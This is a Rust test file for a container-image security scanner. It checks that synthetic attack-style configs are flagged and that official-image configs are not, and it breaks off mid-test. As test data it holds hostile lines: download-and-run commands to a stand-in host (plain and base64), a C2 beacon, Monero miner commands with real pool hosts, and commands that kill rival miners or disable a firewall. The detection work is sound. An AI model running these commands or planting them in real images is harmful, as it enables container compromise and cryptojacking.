//! The config-history analyzer through the public scan API: configs and histories modelled on
//! what attacks ship (TeamTNT-style start-up downloads, base64-wrapped commands, miners
//! configured through Env) must be found and say where; configs modelled on official images
//! must give nothing at medium or above.

use std::io::Read;
use std::sync::Arc;

use customs_analyze::{Analyzers, ScanOptions, scan_image};
use customs_core::{Finding, Severity};
use customs_image::walk::NoProgress;
use customs_image::{BlobKey, BlobStore, ConfigFile, Image, ImageError, OpenOptions, Target, open};
use customs_test_support::fixtures::{Entry, ImageSpec, LayerSpec, write_oci_layout};

/// Images built from a config alone have no layers, so nothing is ever read.
struct NoBlobs;
impl BlobStore for NoBlobs {
    fn open(&self, _key: &BlobKey) -> Result<Box<dyn Read + Send + '_>, ImageError> {
        Ok(Box::new(std::io::empty()))
    }
}

fn scan_config(config: serde_json::Value) -> Vec<Finding> {
    let config = ConfigFile::parse(config.to_string().as_bytes()).expect("valid config");
    let image = Image {
        name: None,
        other_names: Vec::new(),
        manifest_digest: None,
        platform: None,
        config: Some(config),
        layers: Vec::new(),
        store: Arc::new(NoBlobs),
    };
    let analyzers = Analyzers::builtin().unwrap();
    let outcome = scan_image(&image, &analyzers, &ScanOptions::default(), &NoProgress);
    assert!(outcome.errors.is_empty(), "{:?}", outcome.errors);
    outcome.findings
}

fn run_config(entrypoint: Option<&[&str]>, cmd: Option<&[&str]>) -> Vec<Finding> {
    scan_config(serde_json::json!({
        "architecture": "amd64", "os": "linux",
        "config": {"Entrypoint": entrypoint, "Cmd": cmd},
        "rootfs": {"type": "layers", "diff_ids": []},
    }))
}

fn only<'a>(findings: &'a [Finding], rule: &str) -> Vec<&'a Finding> {
    findings.iter().filter(|f| f.rule == rule).collect()
}

fn one<'a>(findings: &'a [Finding], rule: &str) -> &'a Finding {
    let v = only(findings, rule);
    assert_eq!(v.len(), 1, "want one {rule} in {findings:#?}");
    v[0]
}

fn serious(findings: &[Finding]) -> Vec<String> {
    findings
        .iter()
        .filter(|f| f.severity >= Severity::Medium)
        .map(|f| format!("{} {} {}", f.severity, f.rule, f.evidence))
        .collect()
}

const DOWNLOAD: &str = "curl -s http://203.0.113.7/x.sh | bash";
/// `DOWNLOAD` in base64.
const DOWNLOAD_B64: &str = "Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveC5zaCB8IGJhc2g=";
/// A string with the shape of a Monero address, made up for the tests, so nobody's
/// wallet.
const WALLET: &str = "4ACustomsTestWaetShapeNotAReaAddressMadeUpForTestsCustomsTestWaetShapeNotAReaAddressMadeUpForTe";

#[test]
fn startup_download_in_cmd_is_high_and_says_where() {
    let f = run_config(None, Some(&["sh", "-c", DOWNLOAD]));
    let d = one(&f, "config-download-exec");
    assert_eq!(d.severity, Severity::High);
    assert!(d.evidence.starts_with("Cmd: "), "{}", d.evidence);
    assert!(d.evidence.contains("203.0.113.7"), "{}", d.evidence);
    for id in ["T1204.003", "T1105", "T1059.004"] {
        assert!(d.attack.iter().any(|a| a == id), "{id} in {:?}", d.attack);
    }
    assert!(d.path.is_none() && d.layer.is_none());

    // The script in Cmd of an `ENTRYPOINT ["/bin/sh", "-c"]`, and in Entrypoint itself.
    let f = run_config(Some(&["/bin/sh", "-c"]), Some(&[DOWNLOAD]));
    assert!(
        one(&f, "config-download-exec")
            .evidence
            .starts_with("Cmd: ")
    );
    let f = run_config(Some(&["/bin/bash", "-ec", DOWNLOAD]), None);
    assert!(
        one(&f, "config-download-exec")
            .evidence
            .starts_with("Entrypoint: ")
    );

    // Near miss: a start-up script that only probes a URL and then runs the server.
    let f = run_config(
        None,
        Some(&[
            "sh",
            "-c",
            "curl -fsS http://localhost:8080/ready; exec nginx -g 'daemon off;'",
        ]),
    );
    assert!(serious(&f).is_empty(), "{f:#?}");
}

#[test]
fn base64_wrapped_command_is_decoded_and_read_again() {
    let f = run_config(
        None,
        Some(&[
            "sh",
            "-c",
            &format!("echo {DOWNLOAD_B64} | base64 -d | bash"),
        ]),
    );
    // The wrapper itself, by the shell rule...
    let wrapper = one(&f, "shell-decode-exec");
    assert!(
        wrapper.evidence.starts_with("Cmd: "),
        "{}",
        wrapper.evidence
    );
    assert!(wrapper.attack.iter().any(|a| a == "T1204.003"));
    // ...and what it hides, decoded.
    let inner = one(&f, "config-download-exec");
    assert!(
        inner.evidence.starts_with("decoded base64 in Cmd: ")
            && inner.evidence.contains("203.0.113.7"),
        "{}",
        inner.evidence
    );

    // Base64 inside base64 in an Env value: depth 2 is still read.
    let twice = base64_encode(&format!("echo {DOWNLOAD_B64} | base64 -d | sh"));
    let f = scan_config(serde_json::json!({
        "config": {"Env": [format!("BOOT={twice}")]},
    }));
    let d = one(&f, "shell-download-exec");
    assert!(
        d.evidence
            .starts_with("decoded base64 in decoded base64 in Env BOOT: "),
        "{}",
        d.evidence
    );

    // A label is documentation, but a payload hidden in one is read.
    let f = scan_config(serde_json::json!({
        "config": {"Labels": {"build": DOWNLOAD_B64}},
    }));
    assert_eq!(
        one(&f, "shell-download-exec").evidence,
        format!("decoded base64 in Label build: {DOWNLOAD}")
    );

    // Near miss: base64 that decodes to binary (a DER certificate body) is not read as text.
    let f = scan_config(serde_json::json!({
        "config": {"Env": ["CA_DER=MIIBszCCAVmgAwIBAgIUWb0qnb6sb5kRyVFbD7wC7kBf3Q8wCgYIKoZIzj0EAwIw"]},
    }));
    assert!(f.is_empty(), "{f:#?}");
}

fn base64_encode(s: &str) -> String {
    const T: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let b = s.as_bytes();
    let mut out = String::new();
    for c in b.chunks(3) {
        let n = (c[0] as u32) << 16
            | (*c.get(1).unwrap_or(&0) as u32) << 8
            | *c.get(2).unwrap_or(&0) as u32;
        for k in 0..4 {
            if k <= c.len() {
                out.push(T[(n >> (18 - 6 * k) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[test]
fn miner_flags_pools_and_wallets_anywhere_in_the_config() {
    // Flags that only miners take, on a renamed binary.
    let f = run_config(
        Some(&["/usr/local/bin/kthreaddi"]),
        Some(&[
            "-a",
            "rx/0",
            "--coin",
            "monero",
            "-o",
            "pool.supportxmr.com:443",
            "-k",
        ]),
    );
    let m = one(&f, "config-miner-command");
    assert_eq!(m.severity, Severity::High);
    assert!(
        m.evidence.starts_with("Cmd: ") && m.evidence.contains("-a rx/0"),
        "{}",
        m.evidence
    );
    let p = one(&f, "config-mining-pool");
    assert!(p.evidence.contains("pool.supportxmr.com"), "{}", p.evidence);
    assert!(p.attack.iter().any(|a| a == "T1496"));

    // A miner configured through the environment and started by a script.
    let f = scan_config(serde_json::json!({
        "config": {
            "Env": [
                "MINER_POOL=stratum+tcp://pool.minexmr.com:4444",
                format!("WALLET={WALLET}"),
                "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
            ],
            "Cmd": ["/start.sh"],
        },
    }));
    assert_eq!(
        one(&f, "config-mining-pool").evidence,
        "Env MINER_POOL: stratum+tcp://pool.minexmr.com:4444"
    );
    let w = one(&f, "config-wallet-address");
    assert!(
        w.evidence.starts_with("Env WALLET: 4ACustoms"),
        "{}",
        w.evidence
    );

    // Near misses: tools with the same short flags, a label that talks about stratum, a
    // pool-like name that is not the pool, a 95-character string that is not an address.
    let f = scan_config(serde_json::json!({
        "config": {
            "Cmd": ["curl", "-a", "-o", "/tmp/out.tar", "https://example.org:3333/x.tar"],
            "Env": [format!("TOKEN=4{}", "a".repeat(94)), "UPSTREAM=notsupportxmr.com"],
            "Labels": {
                "org.opencontainers.image.description": "A stratum protocol proxy for testing",
                "install": "curl -fsSL https://get.example.org/install.sh | sh",
            },
        },
    }));
    assert!(serious(&f).is_empty(), "{f:#?}");
}

#[test]
fn healthcheck_and_onbuild_are_read() {
    let f = scan_config(serde_json::json!({
        "config": {
            "Healthcheck": {"Test": ["CMD-SHELL", "curl -fsSL http://203.0.113.7/h.sh | sh"], "Interval": 30000000000_u64},
            "OnBuild": ["COPY . /app", "RUN wget -qO- http://203.0.113.7/i | sh"],
        },
    }));
    let evidence: Vec<&str> = only(&f, "config-download-exec")
        .iter()
        .map(|f| f.evidence.as_str())
        .collect();
    assert!(
        evidence.iter().any(|e| e.starts_with("Healthcheck: ")),
        "{evidence:?}"
    );
    assert!(
        evidence.iter().any(|e| e.starts_with("OnBuild[1]: ")),
        "{evidence:?}"
    );
    // A healthcheck that downloads and runs is not also reported as a mere fetch.
    assert!(only(&f, "config-healthcheck-remote-fetch").is_empty());

    let f = scan_config(serde_json::json!({
        "config": {"Healthcheck": {"Test": ["CMD", "curl", "-s", "-o", "/dev/null", "https://c2.example.net/beat"]}},
    }));
    let h = one(&f, "config-healthcheck-remote-fetch");
    assert_eq!(h.severity, Severity::Medium);
    assert_eq!(h.evidence, "Healthcheck: https://c2.example.net/beat");

    // Near misses: the healthchecks official and common images use.
    for test in [
        serde_json::json!([
            "CMD-SHELL",
            "curl -f http://localhost:8080/health || exit 1"
        ]),
        serde_json::json!([
            "CMD",
            "wget",
            "--no-verbose",
            "--tries=1",
            "--spider",
            "http://127.0.0.1:3000/"
        ]),
        serde_json::json!(["CMD", "pg_isready", "-U", "postgres"]),
        serde_json::json!(["CMD-SHELL", "redis-cli ping | grep PONG"]),
        serde_json::json!(["NONE"]),
    ] {
        let f = scan_config(serde_json::json!({"config": {"Healthcheck": {"Test": test}}}));
        assert!(f.is_empty(), "{test}: {f:#?}");
    }
}

#[test]
fn programs_run_from_temp_or_hidden_directories() {
    let f = run_config(
        Some(&["/tmp/.X11-unix/kswapd0"]),
        Some(&["-c", "/tmp/.X11-unix/config.json"]),
    );
    let e = one(&f, "config-exec-temp-path");
    assert_eq!(e.severity, Severity::Medium);
    assert_eq!(e.evidence, "Entrypoint: runs /tmp/.X11-unix/kswapd0");
    let f = run_config(
        None,
        Some(&[
            "sh",
            "-c",
            "cd /dev/shm && nohup /dev/shm/.x/dbus >/dev/null 2>&1 &",
        ]),
    );
    assert!(
        one(&f, "config-exec-temp-path")
            .evidence
            .contains("/dev/shm/.x/dbus")
    );

    // Near misses: virtualenvs and user-local tool directories, a config file in /tmp.
    for (ep, cmd) in [
        (
            None,
            vec![
                "/app/.venv/bin/fastapi",
                "run",
                "app/main.py",
                "--port",
                "80",
            ],
        ),
        (
            None,
            vec![
                "/home/app/.local/bin/gunicorn",
                "-b",
                "0.0.0.0:8000",
                "app:app",
            ],
        ),
        (
            Some(vec!["docker-entrypoint.sh"]),
            vec!["postgres", "-c", "config_file=/tmp/pg.conf"],
        ),
    ] {
        let f = run_config(ep.as_deref(), Some(&cmd));
        assert!(f.is_empty(), "{cmd:?}: {f:#?}");
    }
}

#[test]
fn build_history_is_read_with_build_time_severities() {
    let f = scan_config(serde_json::json!({
        "config": {"Cmd": ["node"]},
        "history": [
            {"created_by": "/bin/sh -c #(nop) ADD file:5d6b639e8b6bcc011ef4be28 in / "},
            {"created_by": "RUN /bin/sh -c curl -fsSL https://deb.nodesource.com/setup_20.x | bash - && apt-get install -y nodejs # buildkit"},
            {"created_by": "RUN /bin/sh -c pkill -9 xmrig; pkill -f kdevtmpfsi; rm -f /root/.bash_history # buildkit"},
            {"created_by": "|1 POOL=x /bin/sh -c echo ok && /opt/m --donate-level 1 -o stratum+tcp://mine.c3pool.com:13333"},
            {"created_by": "/bin/sh -c #(nop)  CMD [\"node\"]", "empty_layer": true},
        ],
    }));
    // An installer piped into a shell at build time is low: its result is in the layers.
    let dl = one(&f, "history-download-exec");
    assert_eq!(dl.severity, Severity::Low);
    assert!(dl.evidence.starts_with("history[1]: "), "{}", dl.evidence);
    assert!(only(&f, "config-download-exec").is_empty());
    // Killing rival miners keeps its rule and severity; clearing history at build time is low.
    let k = one(&f, "shell-kill-rival-miners");
    assert!(k.evidence.starts_with("history[2]: "), "{}", k.evidence);
    assert_eq!(k.severity, Severity::High);
    assert_eq!(
        one(&f, "history-shell-history-wipe").severity,
        Severity::Low
    );
    assert!(only(&f, "shell-history-wipe").is_empty());
    // A miner started in a build step, with build arguments recorded before the shell.
    assert!(
        one(&f, "shell-miner-launch")
            .evidence
            .starts_with("history[3]: ")
    );
    assert!(
        one(&f, "config-mining-pool")
            .evidence
            .contains("mine.c3pool.com:13333")
    );
}

/// Configs and histories modelled on official images (nginx, python, node, postgres, redis,
/// debian): facts of how those images are built, written here by us.
#[test]
fn official_image_configs_are_quiet() {
    let nginx = serde_json::json!({
        "architecture": "amd64", "os": "linux",
        "config": {
            "ExposedPorts": {"80/tcp": {}},
            "Env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "NGINX_VERSION=1.27.0", "NJS_VERSION=0.8.4", "NJS_RELEASE=2~bookworm", "PKG_RELEASE=2~bookworm"],
            "Entrypoint": ["/docker-entrypoint.sh"],
            "Cmd": ["nginx", "-g", "daemon off;"],
            "Labels": {"maintainer": "NGINX Docker Maintainers <docker-maint@nginx.com>"},
            "StopSignal": "SIGQUIT",
        },
        "history": [
            {"created_by": "/bin/sh -c #(nop) ADD file:b24689567a7c604de93e4ef1dc87c372514f692556744da43925c575b4f80df6 in / "},
            {"created_by": "/bin/sh -c #(nop)  CMD [\"bash\"]", "empty_layer": true},
            {"created_by": "LABEL maintainer=NGINX Docker Maintainers <docker-maint@nginx.com>", "comment": "buildkit.dockerfile.v0", "empty_layer": true},
            {"created_by": "ENV NGINX_VERSION=1.27.0", "comment": "buildkit.dockerfile.v0", "empty_layer": true},
            {"created_by": "RUN /bin/sh -c set -x     && groupadd --system --gid 101 nginx     && useradd --system --gid nginx --no-create-home --home /nonexistent --comment \"nginx user\" --shell /bin/false --uid 101 nginx     && apt-get update     && apt-get install --no-install-recommends --no-install-suggests -y gnupg1 ca-certificates     &&     NGINX_GPGKEYS=\"573BFD6B3D8FBC641079A6ABABF5BD827BD9BF62 8540A6F18833A80E9C1653A42FD21B2AB8A84A32\";     NGINX_GPGKEY_PATH=/etc/apt/keyrings/nginx-archive-keyring.gpg;     export GNUPGHOME=\"$(mktemp -d)\";     found='';     for NGINX_GPGKEY in $NGINX_GPGKEYS; do     for server in         hkp://keyserver.ubuntu.com:80         pgp.mit.edu     ; do         echo \"Fetching GPG key $NGINX_GPGKEY from $server\";         gpg1 --keyserver \"$server\" --keyserver-options timeout=10 --recv-keys \"$NGINX_GPGKEY\" && found=yes && break;     done;     test -z \"$found\" && echo >&2 \"error: failed to fetch GPG key $NGINX_GPGKEY\" && exit 1;     done;     gpg1 --export \"$NGINX_GPGKEYS\" > \"$NGINX_GPGKEY_PATH\" ;     rm -rf \"$GNUPGHOME\";     apt-get remove --purge --auto-remove -y gnupg1 && rm -rf /var/lib/apt/lists/*     && echo \"deb [signed-by=$NGINX_GPGKEY_PATH] https://nginx.org/packages/mainline/debian/ bookworm nginx\" >> /etc/apt/sources.list.d/nginx.list     && apt-get update     && apt-get install --no-install-recommends --no-install-suggests -y nginx=${NGINX_VERSION}-${PKG_RELEASE}     && apt-get remove --purge --auto-remove -y && rm -rf /var/lib/apt/lists/* /etc/apt/sources.list.d/nginx.list     && ln -sf /dev/stdout /var/log/nginx/access.log     && ln -sf /dev/stderr /var/log/nginx/error.log     && mkdir /docker-entrypoint.d # buildkit", "comment": "buildkit.dockerfile.v0"},
            {"created_by": "COPY docker-entrypoint.sh / # buildkit", "comment": "buildkit.dockerfile.v0"},
            {"created_by": "ENTRYPOINT [\"/docker-entrypoint.sh\"]", "comment": "buildkit.dockerfile.v0", "empty_layer": true},
            {"created_by": "EXPOSE map[80/tcp:{}]", "comment": "buildkit.dockerfile.v0", "empty_layer": true},
            {"created_by": "STOPSIGNAL SIGQUIT", "comment": "buildkit.dockerfile.v0", "empty_layer": true},
            {"created_by": "CMD [\"nginx\" \"-g\" \"daemon off;\"]", "comment": "buildkit.dockerfile.v0", "empty_layer": true},
        ],
    });
    let python = serde_json::json!({
        "config": {
            "Env": ["PATH=/usr/local/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "LANG=C.UTF-8", "GPG_KEY=7169605F62C751356D054A26A821E680E5FA6305", "PYTHON_VERSION=3.12.4", "PYTHON_SHA256=f6d419a6d8743ab26700801b4908d26d97e8b986e14f95de31b32de2b0e79554"],
            "Cmd": ["python3"],
        },
        "history": [
            {"created_by": "# debian.sh --arch 'amd64' out/ 'bookworm' '@1719792000'", "comment": "debuerreotype 0.15"},
            {"created_by": "RUN /bin/sh -c set -eux; \tapt-get update; \tapt-get install -y --no-install-recommends \t\tca-certificates \t\tnetbase \t\ttzdata \t; \trm -rf /var/lib/apt/lists/* # buildkit"},
            {"created_by": "ENV PYTHON_SHA256=f6d419a6d8743ab26700801b4908d26d97e8b986e14f95de31b32de2b0e79554", "empty_layer": true},
            {"created_by": "RUN /bin/sh -c set -eux; \t\tsavedAptMark=\"$(apt-mark showmanual)\"; \tapt-get update; \tapt-get install -y --no-install-recommends \t\tdpkg-dev \t\tgcc \t\tlibssl-dev \t\tmake \t\twget \t\txz-utils \t\tzlib1g-dev \t; \t\twget -O python.tar.xz \"https://www.python.org/ftp/python/${PYTHON_VERSION%%[a-z]*}/Python-$PYTHON_VERSION.tar.xz\"; \techo \"$PYTHON_SHA256 *python.tar.xz\" | sha256sum -c -; \tmkdir -p /usr/src/python; \ttar --extract --directory /usr/src/python --strip-components=1 --file python.tar.xz; \trm python.tar.xz; \t\tcd /usr/src/python; \tgnuArch=\"$(dpkg-architecture --query DEB_BUILD_GNU_TYPE)\"; \t./configure \t\t--build=\"$gnuArch\" \t\t--enable-loadable-sqlite-extensions \t\t--enable-optimizations \t\t--enable-option-checking=fatal \t\t--enable-shared \t\t--with-lto \t\t--with-system-expat \t\t--without-ensurepip \t; \tnproc=\"$(nproc)\"; \tmake -j \"$nproc\"; \tmake install; \t\tcd /; \trm -rf /usr/src/python; \t\tfind /usr/local -depth \t\t\\( \t\t\t\\( -type d -a \\( -name test -o -name tests -o -name idle_test \\) \\) \t\t\t-o \\( -type f -a \\( -name '*.pyc' -o -name '*.pyo' -o -name 'libpython*.a' \\) \\) \t\t\\) -exec rm -rf '{}' + \t; \t\tldconfig; \t\tapt-mark auto '.*' > /dev/null; \tapt-mark manual $savedAptMark; \tapt-get purge -y --auto-remove -o APT::AutoRemove::RecommendsImportant=false; \trm -rf /var/lib/apt/lists/*; \t\tpython3 --version # buildkit"},
            {"created_by": "RUN /bin/sh -c set -eux; \tfor src in idle3 pydoc3 python3 python3-config; do \t\tdst=\"$(echo \"$src\" | tr -d 3)\"; \t\t[ -s \"/usr/local/bin/$src\" ]; \t\t[ ! -e \"/usr/local/bin/$dst\" ]; \t\tln -svT \"$src\" \"/usr/local/bin/$dst\"; \tdone # buildkit"},
            {"created_by": "CMD [\"python3\"]", "empty_layer": true},
        ],
    });
    let node = serde_json::json!({
        "config": {
            "Env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "NODE_VERSION=20.15.0", "YARN_VERSION=1.22.22"],
            "Entrypoint": ["docker-entrypoint.sh"],
            "Cmd": ["node"],
        },
        "history": [
            {"created_by": "RUN /bin/sh -c groupadd --gid 1000 node   && useradd --uid 1000 --gid node --shell /bin/bash --create-home node # buildkit"},
            {"created_by": "RUN /bin/sh -c ARCH= && dpkgArch=\"$(dpkg --print-architecture)\"   && case \"${dpkgArch##*-}\" in     amd64) ARCH='x64';;     arm64) ARCH='arm64';;     *) echo \"unsupported architecture\"; exit 1 ;;   esac   && set -ex   && for key in     4ED778F539E3634C779C87C6D7062848A1AB005C     141F07595B7B3FFE74309A937405533BE57C7D57     C4F0DFFF4E8C1A8236409D08E73BC641CC11F4C8   ; do       gpg --batch --keyserver hkps://keys.openpgp.org --recv-keys \"$key\" ||       gpg --batch --keyserver keyserver.ubuntu.com --recv-keys \"$key\" ;   done   && curl -fsSLO --compressed \"https://nodejs.org/dist/v$NODE_VERSION/node-v$NODE_VERSION-linux-$ARCH.tar.xz\"   && curl -fsSLO --compressed \"https://nodejs.org/dist/v$NODE_VERSION/SHASUMS256.txt.asc\"   && gpg --batch --decrypt --output SHASUMS256.txt SHASUMS256.txt.asc   && grep \" node-v$NODE_VERSION-linux-$ARCH.tar.xz\\$\" SHASUMS256.txt | sha256sum -c -   && tar -xJf \"node-v$NODE_VERSION-linux-$ARCH.tar.xz\" -C /usr/local --strip-components=1 --no-same-owner   && rm \"node-v$NODE_VERSION-linux-$ARCH.tar.xz\" SHASUMS256.txt.asc SHASUMS256.txt   && ln -s /usr/local/bin/node /usr/local/bin/nodejs   && node --version   && npm --version # buildkit"},
            {"created_by": "RUN /bin/sh -c set -ex   && for key in     6A010C5166006599AA17F08146C2130DFD2497F5   ; do     gpg --batch --keyserver hkps://keys.openpgp.org --recv-keys \"$key\" ||     gpg --batch --keyserver keyserver.ubuntu.com --recv-keys \"$key\" ;   done   && curl -fsSLO --compressed \"https://yarnpkg.com/downloads/$YARN_VERSION/yarn-v$YARN_VERSION.tar.gz\"   && curl -fsSLO --compressed \"https://yarnpkg.com/downloads/$YARN_VERSION/yarn-v$YARN_VERSION.tar.gz.asc\"   && gpg --batch --verify yarn-v$YARN_VERSION.tar.gz.asc yarn-v$YARN_VERSION.tar.gz   && mkdir -p /opt   && tar -xzf yarn-v$YARN_VERSION.tar.gz -C /opt/   && ln -s /opt/yarn-v$YARN_VERSION/bin/yarn /usr/local/bin/yarn   && ln -s /opt/yarn-v$YARN_VERSION/bin/yarnpkg /usr/local/bin/yarnpkg   && rm yarn-v$YARN_VERSION.tar.gz.asc yarn-v$YARN_VERSION.tar.gz   && yarn --version # buildkit"},
            {"created_by": "COPY docker-entrypoint.sh /usr/local/bin/ # buildkit"},
        ],
    });
    let postgres = serde_json::json!({
        "config": {
            "Env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:/usr/lib/postgresql/16/bin", "GOSU_VERSION=1.17", "LANG=en_US.utf8", "PG_MAJOR=16", "PG_VERSION=16.3-1.pgdg120+1", "PGDATA=/var/lib/postgresql/data"],
            "Entrypoint": ["docker-entrypoint.sh"],
            "Cmd": ["postgres"],
            "Volumes": {"/var/lib/postgresql/data": {}},
            "StopSignal": "SIGINT",
        },
        "history": [
            {"created_by": "RUN /bin/sh -c set -eux; \tgroupadd -r postgres --gid=999; \tuseradd -r -g postgres --uid=999 --home-dir=/var/lib/postgresql --shell=/bin/bash postgres; \tmkdir -p /var/lib/postgresql; \tchown -R postgres:postgres /var/lib/postgresql # buildkit"},
            {"created_by": "RUN /bin/sh -c set -eux; \tsavedAptMark=\"$(apt-mark showmanual)\"; \tapt-get update; \tapt-get install -y --no-install-recommends ca-certificates wget; \trm -rf /var/lib/apt/lists/*; \tdpkgArch=\"$(dpkg --print-architecture | awk -F- '{ print $NF }')\"; \twget -O /usr/local/bin/gosu \"https://github.com/tianon/gosu/releases/download/$GOSU_VERSION/gosu-$dpkgArch\"; \twget -O /usr/local/bin/gosu.asc \"https://github.com/tianon/gosu/releases/download/$GOSU_VERSION/gosu-$dpkgArch.asc\"; \texport GNUPGHOME=\"$(mktemp -d)\"; \tgpg --batch --keyserver hkps://keys.openpgp.org --recv-keys B42F6819007F00F88E364FD4036A9C25BF357DD4; \tgpg --batch --verify /usr/local/bin/gosu.asc /usr/local/bin/gosu; \tgpgconf --kill all; \trm -rf \"$GNUPGHOME\" /usr/local/bin/gosu.asc; \tapt-mark auto '.*' > /dev/null; \t[ -z \"$savedAptMark\" ] || apt-mark manual $savedAptMark > /dev/null; \tapt-get purge -y --auto-remove -o APT::AutoRemove::RecommendsImportant=false; \tchmod +x /usr/local/bin/gosu; \tgosu --version; \tgosu nobody true # buildkit"},
            {"created_by": "RUN /bin/sh -c mkdir /docker-entrypoint-initdb.d # buildkit"},
            {"created_by": "RUN /bin/sh -c set -ex; \tkey='B97B0AFCAA1A47F044F244A07FCC7D46ACCC4CF8'; \texport GNUPGHOME=\"$(mktemp -d)\"; \tmkdir -p /usr/local/share/keyrings/; \tgpg --batch --keyserver keyserver.ubuntu.com --recv-keys \"$key\"; \tgpg --batch --export --armor \"$key\" > /usr/local/share/keyrings/postgres.gpg.asc; \tgpgconf --kill all; \trm -rf \"$GNUPGHOME\" # buildkit"},
            {"created_by": "RUN /bin/sh -c set -eux; \tsed -ri \"s!^#?(listen_addresses)\\s*=\\s*\\S+.*!\\1 = '*'!\" /usr/share/postgresql/postgresql.conf.sample; \tgrep -F \"listen_addresses = '*'\" /usr/share/postgresql/postgresql.conf.sample # buildkit"},
            {"created_by": "RUN /bin/sh -c mkdir -p /var/run/postgresql && chown -R postgres:postgres /var/run/postgresql && chmod 3777 /var/run/postgresql # buildkit"},
        ],
    });
    let redis = serde_json::json!({
        "config": {
            "Env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "REDIS_VERSION=7.2.5", "REDIS_DOWNLOAD_URL=http://download.redis.io/releases/redis-7.2.5.tar.gz", "REDIS_DOWNLOAD_SHA=5981179706f8391f03be91d951acafaeda91af7fac56beffb2701963103e423d"],
            "Entrypoint": ["docker-entrypoint.sh"],
            "Cmd": ["redis-server"],
            "Healthcheck": {"Test": ["CMD-SHELL", "redis-cli ping | grep PONG"], "Interval": 10000000000_u64},
        },
        "history": [
            {"created_by": "/bin/sh -c set -eux; \t\tsavedAptMark=\"$(apt-mark showmanual)\"; \tapt-get update; \tapt-get install -y --no-install-recommends \t\tca-certificates \t\twget \t\tdpkg-dev \t\tgcc \t\tlibc6-dev \t\tlibssl-dev \t\tmake \t; \t\twget -O redis.tar.gz \"$REDIS_DOWNLOAD_URL\"; \techo \"$REDIS_DOWNLOAD_SHA *redis.tar.gz\" | sha256sum -c -; \tmkdir -p /usr/src/redis; \ttar -xzf redis.tar.gz -C /usr/src/redis --strip-components=1; \trm redis.tar.gz; \t\tmake -C /usr/src/redis -j \"$(nproc)\" all; \tmake -C /usr/src/redis install; \t\trm -r /usr/src/redis; \t\tredis-cli --version; \tredis-server --version"},
            {"created_by": "/bin/sh -c #(nop) WORKDIR /data"},
            {"created_by": "/bin/sh -c #(nop)  ENTRYPOINT [\"docker-entrypoint.sh\"]", "empty_layer": true},
        ],
    });
    let debian = serde_json::json!({
        "config": {"Env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"], "Cmd": ["bash"]},
        "history": [
            {"created_by": "# debian.sh --arch 'amd64' out/ 'bookworm' '@1719792000'", "comment": "debuerreotype 0.15"},
        ],
    });
    // Third-party but ordinary: an app image with OCI labels, a uv virtualenv, a healthcheck.
    let app = serde_json::json!({
        "config": {
            "Env": ["PATH=/app/.venv/bin:/usr/local/bin:/usr/bin:/bin", "UV_COMPILE_BYTECODE=1", "PYTHONUNBUFFERED=1"],
            "Cmd": ["/app/.venv/bin/fastapi", "run", "app/main.py", "--port", "80", "--host", "0.0.0.0"],
            "Healthcheck": {"Test": ["CMD", "curl", "-f", "http://localhost/health"]},
            "Labels": {
                "org.opencontainers.image.source": "https://github.com/example/app",
                "org.opencontainers.image.revision": "4b825dc642cb6eb9a060e54bf8d69288fbee4904",
                "org.opencontainers.image.created": "2024-06-01T12:00:00Z",
            },
        },
        "history": [
            {"created_by": "RUN /bin/sh -c apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/* # buildkit"},
            {"created_by": "COPY /uv /uvx /bin/ # buildkit"},
            {"created_by": "RUN /bin/sh -c uv sync --frozen --no-install-project # buildkit"},
        ],
    });
    for (name, config) in [
        ("nginx", nginx),
        ("python", python),
        ("node", node),
        ("postgres", postgres),
        ("redis", redis),
        ("debian", debian),
        ("app", app),
    ] {
        let f = scan_config(config);
        assert!(serious(&f).is_empty(), "{name}: {:#?}", serious(&f));
        assert!(
            f.iter().all(|f| f.rule != "config-download-exec"),
            "{name}: {f:#?}"
        );
    }
}

/// End to end: real OCI layouts written by the test-support crate, opened and scanned as
/// `customs scan` does.
#[test]
fn fixture_images_malicious_and_clean() {
    let layer = || {
        LayerSpec::new(vec![
            Entry::dir("etc"),
            Entry::file("etc/os-release", "ID=fixture\n"),
        ])
    };
    let mut teamtnt = ImageSpec::new(vec![layer()]).cmd(&[
        "sh",
        "-c",
        &format!("echo {DOWNLOAD_B64} | base64 -d | bash"),
    ]);
    teamtnt.env = vec!["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin".into()];
    teamtnt.extra_history = vec![format!(
        "/bin/sh -c #(nop)  CMD [\"sh\" \"-c\" \"echo {DOWNLOAD_B64} | base64 -d | bash\"]"
    )];

    let mut miner = ImageSpec::new(vec![layer()]).entrypoint(&["/usr/sbin/kworker"]);
    miner.env = vec!["POOL=stratum+tcp://pool.supportxmr.com:3333".into()];
    miner.extra_history =
        vec!["RUN /bin/sh -c chattr -i /etc/ld.so.preload; ufw disable # buildkit".into()];

    let mut clean = ImageSpec::new(vec![layer()]).cmd(&["nginx", "-g", "daemon off;"]);
    clean.env = vec!["NGINX_VERSION=1.27.0".into()];
    clean = clean.label(
        "maintainer",
        "NGINX Docker Maintainers <docker-maint@nginx.com>",
    );
    clean.extra_history = vec![
        "ENV NGINX_VERSION=1.27.0".into(),
        "RUN /bin/sh -c apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/* # buildkit".into(),
    ];

    let dir = tempfile::tempdir().unwrap();
    write_oci_layout(
        dir.path(),
        &[("teamtnt", &teamtnt), ("miner", &miner), ("clean", &clean)],
    )
    .unwrap();
    let scan = |tag: &str| {
        let target: Target = format!("oci:{}:{tag}", dir.path().display())
            .parse()
            .unwrap();
        let images = open(&target, &OpenOptions::default()).unwrap();
